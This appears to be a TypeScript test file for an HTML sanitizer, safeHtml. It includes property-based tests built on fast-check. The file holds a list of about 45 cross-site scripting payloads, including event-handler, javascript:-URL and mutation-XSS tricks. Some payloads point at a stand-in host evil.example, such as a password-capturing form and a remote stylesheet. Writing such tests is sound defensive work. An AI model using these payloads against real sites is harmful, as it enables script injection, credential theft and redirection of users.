import fc from 'fast-check';
import { safeHtml } from './safe-html';

const attacks = [
  '<script>alert(1)</script>',
  '<p onclick="alert(1)">x</p>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" java\tscript:alert(1)">x</a>',
  '<a href="JaVaScRiPt&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example/">x</a>',
  '<a href="/\\evil.example/">x</a>',
  '<a href="\\\\evil.example/">x</a>',
  '<a href="http://evil.example/">x</a>',
  '<a href="https://ok.example/" style="position:fixed;inset:0" onmouseover=alert(1)>x</a>',
  '<a href="https://ok.example/&quot; onmouseover=&quot;alert(1)">x</a>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<iframe><img src=x onerror=alert(1)>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="https://evil.example"><input name=password><button>go</button></form>',
  '<style>@import "https://evil.example/x.css";*{display:none}</style>',
  '<link rel=stylesheet href="https://evil.example/x.css"><base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<textarea></textarea/><img src=x onerror=alert(1)></textarea>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></p></xmp>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noscript><p></noscript><img src=x onerror=alert(1)>',
  '<option>&lt;script&gt;alert(1)&lt;/script&gt;</option>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><p>x</p>',
  '<p/onclick=alert(1)>x',
  '<<script>alert(1)//<</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<p title="`<img src=x onerror=alert(1)>">x</p>',
  '<a href="https://ok.example" id=__proto__ name=body>x</a>',
  '<x-custom onfocus=alert(1) tabindex=1 autofocus>x</x-custom>',
  '<p\u0000onclick=alert(1)>x</p>',
  '\u003cimg src=x onerror=alert(1)\u003e',
];

/** What stands in the page once a browser has read the HTML. */
function elementsOf(html: string): { names: string[]; attributes: string[] } {
  const tagsIn = [...html.matchAll(/<\/?([a-z0-9-]+)([^>]*)>/gi)];
  return {
    names: tagsIn.map(([, name = '']) => name.toLowerCase()),
    attributes: tagsIn.flatMap(([, , rest = '']) =>
      [...rest.matchAll(/([^\s=/]+)="([^"]*)"/g)].map(([, name, value]) => `${name}=${value}`),
    ),
  };
}

const allowed = new Set(['p', 'br', 'strong', 'em', 'h3', 'h4', 'ul', 'ol', 'li', 'a', 'blockquote']);

function expectHarmless(html: string): void {
  const { names, attributes } = elementsOf(html);
  expect(names.filter((name) => !allowed.has(name))).toEqual([]);
  for (const attribute of attributes)
    expect(attribute).toMatch(/^(?:href=(?:https:\/\/|\/(?!\/))|rel=noopener noreferrer nofollow$|target=_blank$)/);
  expect(html.replace(/<[^<>]*>/g, '')).not.toMatch(/[<>]/);
}

test.each(attacks)('leaves nothing that runs, loads or leads astray: %s', (attack) => {
  const clean = safeHtml(attack);
  expectHarmless(clean);
  expect(safeHtml(clean)).toBe(clean);
});

test('keeps what an article is made of', () => {
  const article =
    '<h3>Rules</h3><p>One <strong>bold</strong> and <em>soft</em> word.<br />Next line &amp; more.</p><ul><li>a</li></ul><ol><li>b</li></ol><blockquote>c</blockquote>';
  expect(safeHtml(article)).toBe(article);
  expect(safeHtml('<h1>T</h1><b>x</b><i>y</i>')).toBe('<h3>T</h3><strong>x</strong><em>y</em>');
});

test('keeps links of the site and of the web over TLS, which open beside the page', () => {
  expect(safeHtml('<a href="/promotions?id=1">x</a>')).toBe(
    '<a href="/promotions?id=1" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
  expect(safeHtml('<a href="https://ok.example/a?b=1&amp;c=2" target="_top">x</a>')).toBe(
    '<a href="https://ok.example/a?b=1&amp;c=2" rel="noopener noreferrer nofollow" target="_blank">x</a>',
  );
});

test('whatever is put together from pieces of attacks is harmless', () => {
  const piece = fc.constantFrom(
    ...attacks.flatMap((attack) => [attack, attack.slice(0, attack.length / 2), attack.slice(attack.length / 2)]),
    '<p>',
    '</p>',
    '"',
    "'",
    '>',
    '<',
    '`',
    '&lt;',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => expectHarmless(safeHtml(pieces.join('')))),
    { numRuns: 300 },
  );
});
